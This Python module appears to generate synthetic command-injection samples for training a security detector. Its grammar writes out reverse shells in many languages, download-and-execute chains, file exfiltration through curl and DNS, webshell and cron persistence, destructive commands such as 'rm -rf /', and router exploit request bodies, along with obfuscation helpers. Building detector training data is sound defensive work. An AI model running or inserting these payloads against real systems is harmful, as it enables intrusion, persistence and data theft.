"""Operating-system commands: separators, substitutions, obfuscation, shells that call back."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import percent
from securitai.train.corpora.kinds import (
    COOKIE,
    FILENAME,
    HEADER,
    NAME,
    PATH,
    VALUE,
    AttackKind,
)
from securitai.verdict import Category

_UCMD, _WCMD = PARTS.maker("ucmd"), PARTS.maker("wcmd")


def quoted_letters(rng: Random) -> str:
    """A command whose letters stand between quotes, backslashes or empty expansions."""
    command = _UCMD(rng)
    filler = ("''", '""', "\\", "$@", "$*", "``", "${x}", "$()", "'\"\"'")[int(rng.random() * 9)]
    out = []
    for index, char in enumerate(command):
        if index and char.isalpha() and rng.random() < 0.4:
            out.append(filler)
        out.append(char)
    return "".join(out)


def globbed(rng: Random) -> str:
    """A command by wildcards, as ``/???/c?t /e??/p?ss??``."""
    tool = ("cat", "id", "ls", "nc", "sh", "wget", "more", "head", "base64", "whoami")[
        int(rng.random() * 10)
    ]
    folder = ("/bin/", "/usr/bin/")[int(rng.random() * 2)]
    target = ("", " /etc/passwd", " /etc/shadow", " /etc/hosts", " /home/*")[int(rng.random() * 5)]
    return "".join(
        [
            ("?" if rng.random() < 0.93 else "*") if char.isalnum() and rng.random() < 0.55 else char
            for char in folder + tool + target
        ]
    )


def caret(rng: Random) -> str:
    """A Windows command with carets or quotes between its letters."""
    command = _WCMD(rng)
    filler = ("^", '"', "^", "%az%")[int(rng.random() * 4)]
    return "".join(
        [filler + char if char.isalpha() and rng.random() < 0.35 else char for char in command]
    )


def sliced(rng: Random) -> str:
    """Letters of a command cut out of environment variables."""
    names = ("PATH", "HOME", "PWD", "SHELL", "USER", "LS_COLORS", "HOSTNAME", "OLDPWD", "IFS")
    count = 2 + int(rng.random() * 6)
    out = []
    for _ in range(count):
        name = names[int(rng.random() * 9)]
        at = int(rng.random() * 20)
        out.append(f"${{{name}:{at}:1}}" if rng.random() < 0.8 else "abcdefilnostw"[at % 13])
    return "".join(out)


def win_sliced(rng: Random) -> str:
    """Letters of a command cut out of Windows variables."""
    names = ("COMSPEC", "ProgramFiles", "CommonProgramFiles", "PATHEXT", "SystemRoot", "TEMP")
    return "".join(
        [
            f"%{names[int(rng.random() * 6)]}:~{int(rng.random() * 30) - 15},1%"
            if rng.random() < 0.7
            else "cmdwhoai "[int(rng.random() * 9)]
            for _ in range(2 + int(rng.random() * 5))
        ]
    )


def arithmetic(rng: Random) -> str:
    """Bash arithmetic that builds digits out of nothing."""
    atoms = ("${##}", "$((${##}<<${##}))", "$#", "$?", "${#?}", "$(($#))", "$[$$/$$]", "${#}")
    digits = "".join([f"\\\\{atoms[int(rng.random() * 8)]}" for _ in range(3 + int(rng.random() * 9))])
    return f"$'{digits}'" if rng.random() < 0.5 else f"${{!#}}<<<$\\'{digits}\\'"


def base64_command(rng: Random) -> str:
    """A Unix command in base64."""
    return b64encode((_UCMD(rng) + ("\n" if rng.random() < 0.3 else "")).encode()).decode()


def powershell64(rng: Random) -> str:
    """A Windows command in the UTF-16 base64 of ``-EncodedCommand``."""
    return b64encode(_WCMD(rng).encode("utf-16-le")).decode()


def hex_command(rng: Random) -> str:
    r"""A command as ``\x63\x61\x74`` or octal escapes."""
    command = _UCMD(rng)
    if rng.random() < 0.5:
        return "".join([f"\\x{byte:02x}" for byte in command.encode()])
    return "".join([f"\\{byte:03o}" for byte in command.encode()])


def braces(rng: Random) -> str:
    """A command as a brace expansion, as ``{cat,/etc/passwd}``."""
    return "{" + ",".join(_UCMD(rng).split(" ")) + "}"


def no_spaces(rng: Random) -> str:
    """A command with something else in the place of blanks."""
    blanks = ("${IFS}", "$IFS", "$IFS$9", "{IFS}", "%09", "<", "\t", "%20", "+", "${IFS%??}", "$@")
    return _UCMD(rng).replace(" ", blanks[int(rng.random() * len(blanks))])


def reversed_command(rng: Random) -> str:
    """A command written backwards for ``rev``."""
    return _UCMD(rng)[::-1]


def spelled(rng: Random) -> str:
    """Rarely percent-encoded once more."""
    return percent(_UCMD(rng))


def shell_encode(rng: Random, text: str) -> str:
    """Leave most payloads alone; encode some for a URL."""
    roll = rng.random()
    if roll < 0.92:
        return text
    if roll < 0.95:
        return text.replace(" ", "%20")
    if roll < 0.97:
        return text.replace(" ", "+")
    return percent(text) if roll < 0.99 else percent(percent(text))


_G = Grammar(
    r"""
run:
  8×‹ucmd›
  2×‹upath›
  2×‹nospace›
  ‹quoted›
  ‹globbed›
  ‹braces›
  ‹piped›
  ‹piped›
  ‹probe›
  ‹download›
  ‹reverse›
upath:
  /bin/‹ls -l¦cat /etc/passwd¦id¦sh¦bash -c id¦sleep 5¦uname -a¦ps¦ls -al¦nc¦busybox wget¦rm -rf›
  /usr/bin/‹id¦whoami¦env¦wget¦curl¦python3 -c 1¦perl -e 1¦who¦nc¦head /etc/passwd›
  /sbin/‹ifconfig¦reboot¦iptables -F¦shutdown›
  /bin/sleep ‹#1-40›
  /usr/bin/id
  ../../bin/‹ls¦id¦cat›
  busybox ‹wget¦nc¦sh¦telnetd -l/bin/sh -p ›‹n›
piped:
  ‹ucmd›|‹base64¦sh¦bash¦md5sum¦nc ¦xxd¦rev¦tee /tmp/x¦grep root¦wc -c¦head -1¦tr a b›
  echo ‹cmd64›|base64 -d|‹sh¦bash›
  echo "‹cmd64›" | base64 ‹-d¦--decode¦-D› | ‹sh¦bash¦/bin/sh›
  bash<<<$(base64 -d<<<‹cmd64›)
  bash -c {echo,‹cmd64›}|{base64,-d}|{bash,-i}
  sh -c "‹ucmd›"
  bash -c '‹ucmd›'
  bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
  eval $(echo ‹cmd64›|base64 -d)
  echo -e "‹hexcmd›"|sh
  $(printf '‹hexcmd›')
  printf '‹hexcmd›'|bash
  $'‹hexcmd›'
  `echo -e "‹hexcmd›"`
  echo '‹revcmd›'|rev|sh
  rev<<<'‹revcmd›'|bash
  $(rev<<<'‹revcmd›')
  xxd -r -p<<<‹hexrun›|sh
  ‹slice›
  ‹arith›
  a=‹c›;b=‹c›;$a$b
  x='‹ucmd›';$x
  x=$'‹ucmd0›'&&$x
  who$@ami
  w`u`h`u`o`u`a`u`m`u`i
  wh$(echo oa)mi
  i$()d
  /bi''n/ca''t /et''c/pass''wd
  cat $(echo . | tr '!-0' '"-1')etc$(echo . | tr '!-0' '"-1')passwd
  tr a-z A-Z<<<id
  IFS=,;`cat<<<‹cmdcommas›`
  {‹ucmd0›}
  . /tmp/‹rnd›
  source /dev/stdin<<<"‹ucmd›"
  exec ‹ucmd›
  nohup ‹ucmd› &
  timeout ‹#1-30› ‹ucmd›
  xargs ‹ucmd0›
  awk 'BEGIN{system("‹ucmd0›")}'
  find . -exec ‹ucmd0› \;
  perl -e 'system("‹ucmd0›")'
  python -c "import os;os.system('‹ucmd0›')"
  php -r 'system("‹ucmd0›");'
  ruby -e '`‹ucmd0›`'
  env x=1 ‹ucmd0›
  sed -n 1p ‹u_file›
  read x<‹u_file›;echo $x
  while read l;do echo $l;done<‹u_file›
  mail ‹mail›<‹u_file›
  tar cf - ‹u_file›
  openssl enc -base64 -in ‹u_file›
  dd if=‹u_file›
  ssh -o ProxyCommand=";‹ucmd›" x
  git -c core.sshCommand="‹ucmd0›" fetch
cmdcommas = cat,/etc/passwd¦ls,-la¦uname,-a¦wget,evil.com
probe:
  echo ‹x=AZ6›$((‹#10-99›+‹#10-99›))$(echo ‹$x›)‹$x›
  echo%20‹x=AZ6›$((‹#10-99›%2B‹#10-99›))$(echo%20‹$x›)‹$x›
  echo$IFS‹x=AZ6›$((‹#1-99›+‹#1-99›))$(echo$IFS‹$x›)‹$x›
  expr ‹#100000000-999999999› + ‹#100000000-999999999›
  echo $(expr ‹#10000-99999› \* ‹#10000-99999›)
  echo ‹rnd›|md5sum
  echo ‹rnd›|rev
  printf "‹rnd›%s" ‹rnd›
  set /A ‹#1000-9999›*‹#1000-9999›
  print(`echo ‹AZ6›`.`echo $((‹#10-99›+‹#10-99›))`)
  [ ‹d1› -ne $(echo ‹AZ6›|tr -d '\n'|wc -c) ] || sleep ‹d1›
  sleep 0 && str=$(echo ‹AZ6›) && str1=${#str} && [ ‹d1› -eq ${str1} ] && sleep ‹d1›
  sleep $(echo ‹AZ6›|wc -c)
  python -c 'print(‹n›*‹n›)'
  ping -c ‹#1-20› 127.0.0.1
  sleep ‹#1-30›
  sleep ‹#1-30› #
  timeout ‹#1-30›
  ping -w ‹#1-30› -n ‹#1-30› ‹ip›
  if [ $(‹ucmd0›|cut -c ‹d1›) == ‹c› ]; then sleep ‹d1›; fi
  for i in $(ls /);do host "$i.‹host›";done
  `nslookup ‹host›`
  curl `‹ucmd0›`.‹host›
  nslookup $(‹ucmd0›).‹host›
  nslookup -q=cname ‹host›||curl ‹host›
  ping `‹ucmd0›`.‹host›
  curl --post-file ‹u_file› ‹host›
  wget --post-file ‹u_file› ‹host›
  curl -F "f=@‹u_file›" ‹url›
  curl -X POST -d @‹u_file› http://‹host›
  id >/dev/udp/‹ip›/53
twoword:
  cat ‹u_file›
  ls ‹-la /etc¦-lR /var/www¦-al /root¦/etc/ssh›
  whoami
  uname -a
  wget ‹url›
  curl ‹url›
  nslookup ‹host›
  ping -c ‹#1-30› ‹host›
  rm -rf ‹/¦*¦/tmp/x¦/var/www/html›
  chmod 777 /tmp/‹rnd›
  id;‹ucmd0›
  ifconfig -a
  netstat -an
  ps aux
  nc ‹ip› ‹port›
  find / -name ‹*.conf¦id_rsa¦wp-config.php¦.env¦*.pem›
  cp ‹u_file› /var/www/html/‹rnd›.txt
  mv /tmp/‹rnd› /etc/cron.d/‹az›
  chown root /tmp/‹rnd›
  kill -9 ‹n›
  shutdown -h now
  sleep ‹#5-30›
  touch /tmp/‹rnd›
  which ‹wget¦gcc¦nc¦python›
  net user ‹syl› ‹Az› /add
  type c:\‹w_file›
  ipconfig /all
  dir c:\
tmp = /tmp¦/var/tmp¦/dev/shm¦/var/run¦/mnt¦/root¦/
download:
  4×‹wget¦curl -O¦curl -sO¦tftp -g -r x¦busybox wget› http://‹hostport›/‹shfile›‹then›
  2×cd ‹tmp›;wget http://‹hostport›/‹x=shfile›;chmod 777 ‹$x›;sh ‹$x›
  cd ‹tmp›;rm -rf *;wget http://‹hostport›/‹x=shfile›;chmod +x ‹$x›;./‹$x› ‹az›
  cd ‹tmp› || cd ‹tmp›; wget http://‹ip›/‹x=shfile›; curl -O http://‹ip›/‹$x›; chmod 777 ‹$x›; sh ‹$x›; rm -rf ‹$x›
  cd+‹tmp›;rm+-rf+*;wget+http://‹ip›/‹x=shfile›;chmod+777+‹$x›;‹tmp›/‹$x›+‹az›
  2×curl ‹-s ¦-fsSL ¦›http://‹hostport›/‹path1›|‹sh¦bash›
  wget -qO- http://‹hostport›/‹path1›|‹sh¦bash›
  (curl -fsSL ‹url›||wget -q -O- ‹url›)|sh
  bash <(curl -s ‹url›)
  wget -O /tmp/‹x=rnd› ‹url›;chmod 777 /tmp/‹$x›;/tmp/‹$x›
  tftp -g -r ‹x=shfile› ‹ip›;sh ‹$x›
  ftpget -v -u anonymous -P 21 ‹ip› ‹x=shfile› ‹$x›
  wget${IFS}http://‹ip›/‹x=shfile›${IFS}-O-|sh
  wget%20-P%20/tmp/%20‹host›
  fetch ‹url›
  lwp-download ‹url›
  echo '<?php ‹phpc›?>' > /var/www/html/‹rnd›.php
  echo "<?php ‹phpc›;unlink(__FILE__);?>" >> ‹rnd›.php
  echo ‹b64›|base64 -d>/var/www/html/‹rnd›.php
  echo ssh-rsa AAAA‹b64› >> ~/.ssh/authorized_keys
  echo '* * * * * root curl ‹url›|sh' > /etc/cron.d/‹az›
  (crontab -l;echo "*/5 * * * * curl ‹url›|bash")|crontab -
  echo '‹syl›:x:0:0::/root:/bin/bash' >> /etc/passwd
phpc = system($_GET[0]);¦eval($_POST[1]);¦phpinfo();¦echo md5(1);¦@passthru($_REQUEST[c]);
then:
  3×‹e›
  ;sh ‹shfile›
  -O /tmp/‹rnd›;sh /tmp/‹rnd›
  |sh
  ;chmod 777 *;./‹az›
  &&bash ‹shfile›
reverse:
  bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
  /bin/bash -c 'bash -i >& /dev/tcp/‹ip›/‹port› 0>&1'
  bash -c "sh -i >& /dev/udp/‹ip›/‹port› 0>&1"
  0<&‹n=n›;exec ‹$n›<>/dev/tcp/‹ip›/‹port›; sh <&‹$n› >&‹$n› 2>&‹$n›
  exec 5<>/dev/tcp/‹ip›/‹port›;cat <&5|while read l;do $l 2>&5 >&5;done
  nc -e /bin/‹sh¦bash› ‹host› ‹port›
  nc ‹host› ‹port› -e ‹/bin/sh¦cmd.exe¦/bin/bash›
  nc -lvvp ‹port› -e /bin/sh
  nc -lvp ‹port›
  ncat ‹host› ‹port› -e /bin/bash --ssl
  rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ‹host› ‹port› >/tmp/f
  mknod /tmp/‹x=az› p;/bin/sh 0</tmp/‹$x›|nc ‹host› ‹port› 1>/tmp/‹$x›
  telnet ‹host› ‹port›|/bin/bash|telnet ‹host› ‹#1025-65000›
  socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:‹host›:‹port›
  openssl s_client -quiet -connect ‹host›:‹port›|/bin/sh
  python‹¦3¦2› -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("‹ip›",‹port›));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
  python3 -c "import os,pty,socket as s;c=s.create_connection(('‹host›',‹port›));[os.dup2(c.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/bash')"
  perl -e 'use Socket;$i="‹ip›";$p=‹port›;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
  perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"‹host›:‹port›");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
  php -r '$s=fsockopen("‹host›",‹port›);exec("/bin/sh -i <&3 >&3 2>&3");'
  ruby -rsocket -e 'f=TCPSocket.open("‹host›",‹port›).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
  lua -e "require('socket');t=socket.tcp();t:connect('‹host›','‹port›');os.execute('/bin/sh -i <&3 >&3 2>&3');"
  node -e "require('child_process').exec('nc -e /bin/sh ‹host› ‹port›')"
  awk 'BEGIN{s="/inet/tcp/0/‹host›/‹port›";while(1){printf ">" |& s;s |& getline c;while((c |& getline)>0)print |& s;close(c)}}'
  gawk 'BEGIN{s="/inet/tcp/0/‹host›/‹port›";print "id"|&s}'
  r = Runtime.getRuntime();p = r.exec(["/bin/bash","-c","exec 5<>/dev/tcp/‹host›/‹port›;cat <&5"] as String[]);p.waitFor()
  xterm -display ‹ip›:1
  powershell -nop -c "$c=New-Object System.Net.Sockets.TCPClient('‹host›',‹port›);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);iex $d}"
  powershell IEX (New-Object Net.WebClient).DownloadString('http://‹host›/‹az›.ps1')
  golang: net.Dial("tcp","‹host›:‹port›");exec.Command("/bin/sh")
sepu:
  6×;
  4×|
  3×||
  3×&&
  2×&
  2×‹nl›
  %0a
  %0d%0a
  ‹crlf›
  ;;
  |&
  ‹sp›;‹sp›
  ‹sp›|‹sp›
  ‹sp›&&‹sp›
  ‹sp›||‹sp›
  ‹sp›&‹sp›
  ';
  ";
  '|
  "|
  '&&
  "&&
  '||
  );
  a);
  ‹nul›;
  %00;
  `;
  \n
  %3B
  %7C
  %26
  %26%26
  ;${IFS}
  }
  ‹tab›;‹tab›
  > /dev/null;‹sp›
  2>&1;
  *;‹sp›
  &&%09
  -1;
closeu:
  10×‹e›
  3×;
  2×‹sp›#
  |
  ||
  &
  '
  "
  ;'
  ;"
  ;#
  &&
  ||'
  %00
  ‹nl›
  )
  ‹sp›;‹sp›
  ‹sp›|‹sp›
  ‹sp›&‹sp›
  2>&1
  >/dev/null 2>&1
  ;echo
  \\
  //
  |#
  ;exit
  ‹sp›2>/dev/null
hostpre:
  8×‹pre›
  127.0.0.1
  8.8.8.8
  localhost
  ‹ip›
  ‹site›
  ‹word›.‹txt¦jpg¦html¦pdf›
  eth0
  ‹az›
unix:
  10×‹hostpre›‹sepu›‹run›‹closeu›
  3×$(‹run›)
  3×`‹run›`
  2×‹hostpre›$(‹run›)
  2×‹hostpre›`‹run›`
  2×‹hostpre›‹sepu›$(‹run›)‹closeu›
  ‹sepu›‹ucmd0›‹closeu›
  ‹sepu›`‹run›`‹closeu›
  '$(‹run›)'
  "`‹run›`"
  {{`‹run›`}}
  $(`‹run›`)
  ${`‹run›`}
  ${‹run›}
  @(`‹run›`)
  "|‹run›|"
  <(‹run›)
  >(‹run›)
  ‹hostpre›|‹run›|
  ‹run›|
  $((`‹run›`))
  $(‹run›).‹host›
  ‹run›;‹run›
  ‹run›&&‹run›
  ‹ucmd0›;
  -‹c›‹sp›‹hostpre›;‹run›
  "';‹run›;'"
  '||‹run›||'
  \`‹run›\`
  %24%28‹enc›%29
  %60‹enc›%60
  %3B‹enc›
  |‹enc›
  ;system('‹ucmd›')
  |‹upath›
  ;‹upath›;
  a;‹upath›
  a)|‹ucmd0›;
  <!--#exec cmd="‹upath›"-->
  ‹hostpre›%0a‹enc›%0a
  ‹hostpre›;‹nospace›;
  ‹hostpre›|‹nospace›
  --exec=`‹ucmd0›`
  -oProxyCommand=‹ucmd0›
  --upload-pack=‹ucmd0›
  --use-compress-program=‹ucmd0›
  -eval 'os.execute("‹ucmd0›")'
  --post-file=‹u_file›
  --output=/var/www/html/‹rnd›.php
  -X‹url›
  -oQ/tmp/ -X/var/www/html/‹rnd›.php
bare:
  4×‹twoword›
  2×‹download›
  2×‹reverse›
  ‹piped›
  ‹probe›
  ‹upath›
winrun:
  6×‹wcmd›
  2×cmd ‹/c¦/k¦/C› ‹wcmd›
  cmd.exe /c ‹wcmd›
  cmd.exe /c "‹wcmd›"
  c:\windows\system32\cmd.exe /c ‹wcmd›
  %COMSPEC% /c ‹wcmd›
  %SystemRoot%\system32\cmd.exe /c ‹wcmd›
  ‹winslice›
  ‹caret›
  ‹caret›
  powershell -‹enc¦e¦EncodedCommand¦ec¦nop -w hidden -enc› ‹ps64›
  powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ‹ps64›
  powershell -c "(‹iwr¦curl¦irm› ‹url›)|‹iex¦IEX›"
  powershell "& {‹wcmd0›}"
  powershell iex(iwr ‹url›)
  pwsh -c ‹wcmd0›
  [Convert]::FromBase64String('‹ps64›')|iex
  &([scriptblock]::create((irm ‹url›)))
  IEX(IWR -UseBasicParsing '‹url›')
  $env:comspec
  set x=‹c›&&set y=‹wcmd0›&&call %y%
  for /f %i in ('‹wcmd0›') do nslookup %i.‹host›
  for /L %i in (1,1,‹n›) do ping ‹ip›
  start /b ‹wcmd›
  wmic process call create "‹wcmd›"
  schtasks /create /tn ‹az› /tr "‹wcmd›" /sc minute
  type %SYSTEMROOT%\repair\‹SAM¦SYSTEM›
  netsh firewall set opmode disable
  reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
  net start ‹TermService¦telnet›
  sc stop ‹az›
  vssadmin delete shadows /all /quiet
  echo ‹rnd›>%temp%\‹rnd›.txt
  echo open ‹ip›>x&&echo get ‹az›.exe>>x&&ftp -s:x
  copy \\‹host›\‹az›\‹az›.exe c:\windows\temp\
  \\‹host›\‹az›\‹az›.exe
  cscript //e:vbscript \\‹host›\‹az›.vbs
  msiexec /q /i ‹url›
  curl.exe -o %TEMP%\‹az›.exe ‹url›&&%TEMP%\‹az›.exe
windows:
  10×‹hostpre›‹sepw›‹winrun›‹closew›
  3×‹winrun›
  2×‹sepw›‹wcmd0›‹closew›
  |‹sp›‹winrun›
  &‹sp›‹winrun›‹sp›&
  "&‹winrun›&"
  '&‹winrun›&'
  "|‹winrun›|"
  ||‹sp›‹winrun›
  %26%20‹wcmd0›
  $(‹wcmd0›)
  ;‹sp›‹winrun›
  ‹hostpre›%26‹wcmd0›%26
sepw = &¦&¦&&¦|¦||¦ & ¦ && ¦ | ¦ || ¦"&¦"&&¦"|¦%26¦%26%26¦%7c¦;¦^&¦'&¦&"¦%0d%0a¦%1a¦%0a¦&timeout 1&
closew = ¦¦¦¦¦ &¦&¦ |¦"¦ &rem ¦ #¦ & echo ¦ ||¦ & exit¦ 2>&1¦>nul¦'
iot:
  ‹sepu›‹download›‹closeu›
  ‹hostpre›;‹download›
  $(‹download›)
  `‹download›`
  ‹hostpre›|‹download›
  ‹hostpre›%0a‹download›
  `busybox wget http://‹ip›/‹shfile›`
  ;cd+/tmp;wget+http://‹ip›/‹shfile›+-O+-+|+sh;
  XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://‹ip›/‹az›+-O+/tmp/‹az›;sh+/tmp/‹az›&ipv=0
  todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://‹ip›/‹az›+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1
  submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+`cd+/tmp;wget+http://‹ip›/‹shfile›;sh+‹shfile›`&StartEPI=1
  ping_IPAddr=127.0.0.1;‹download›
  <NewStatusURL>$(/bin/busybox wget -g ‹ip› -l /tmp/‹az› -r /‹shfile›;/bin/busybox chmod 777 /tmp/‹az›;/tmp/‹az› huawei.rep)</NewStatusURL>
  <NewInternalClient>`cd /var;rm -rf ‹az›;wget http://‹ip›/‹shfile›;sh ‹shfile›`</NewInternalClient>
  cmd.exe /c "powershell (new-object System.Net.WebClient).DownloadFile('http://‹ip›/‹az›.exe','%SystemRoot%/Temp/‹az›.exe');start %SystemRoot%/Temp/‹az›.exe"
  shell?cd+/tmp;rm+-rf+*;wget+‹ip›/‹az›;chmod+777+‹az›;/tmp/‹az›
  [{"key":"/etc/passwd","pass":"‹az›"}];‹download›
  '$(‹download›)'
  ‹ip›;{‹download›;}
  /bin/sh${IFS}-c${IFS}'cd${IFS}/tmp;${IFS}wget${IFS}http://‹ip›/‹az›;sh${IFS}‹az›'
short:
  ;‹ucmd0›
  |‹ucmd0›
  ||‹ucmd0›
  &‹ucmd0›
  &&‹ucmd0›
  `‹ucmd0›`
  $(‹ucmd0›)
  ;‹ucmd0›;
  |‹ucmd0›|
  ‹nl›‹ucmd0›
  ;‹sp›‹ucmd0›
  &‹sp›‹wcmd0›
  |‹sp›‹wcmd0›
  ‹n›;‹ucmd0›
  ‹n›|‹ucmd0›
  ‹n›&‹ucmd0›
  ‹n›||‹ucmd0›
  ‹n›`‹ucmd0›`
  ‹word›;‹ucmd0›
  ‹word›|‹ucmd0›
  ‹word› && ‹ucmd0›
  ‹rnd›;‹ucmd0›
  ;‹ucmd0›#
  ‹ucmd0›;
  |cat ‹u_file›
  ;cat ‹u_file›
  ;ls${IFS}-la
  $USER
  $(whoami)
  ${PATH}
  ‹hostpre›;‹ucmd0›
  ‹hostpre›|‹ucmd0›
  ‹hostpre›`‹ucmd0›`
  ‹hostpre›$(‹ucmd0›)
  :|‹ucmd0›
  >/tmp/‹rnd›
  >> ‹u_file›
  <‹u_file›
  |nc ‹ip› ‹port›
  ;reboot
  ;rm -rf /
  rm -rf ‹/¦*¦~¦/*¦/var¦--no-preserve-root /›
  :(){ :|:& };:
  ;sleep ‹#1-30›
  |sleep ‹#1-30›
  &ping -n ‹#1-30› 127.0.0.1
  ||ping -c ‹#1-30› ‹host›||
""",
    PARTS,
    {
        "quoted": quoted_letters,
        "globbed": globbed,
        "caret": caret,
        "slice": sliced,
        "winslice": win_sliced,
        "arith": arithmetic,
        "cmd64": base64_command,
        "ps64": powershell64,
        "hexcmd": hex_command,
        "braces": braces,
        "nospace": no_spaces,
        "revcmd": reversed_command,
        "enc": spelled,
    },
)

_ALL = (VALUE, COOKIE, HEADER, NAME, FILENAME, PATH)
_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("cmdi.unix", Category.CMDI, _G.maker("unix", shell_encode), 8.0, _ALL),
    AttackKind("cmdi.bare", Category.CMDI, _G.maker("bare"), 2.0, (VALUE,)),
    AttackKind("cmdi.windows", Category.CMDI, _G.maker("windows", shell_encode), 4.0, _SOME),
    AttackKind("cmdi.iot", Category.CMDI, _G.maker("iot", shell_encode), 2.0, _SOME),
    AttackKind("cmdi.short", Category.CMDI, _G.maker("short", shell_encode), 4.0, _SOME),
)
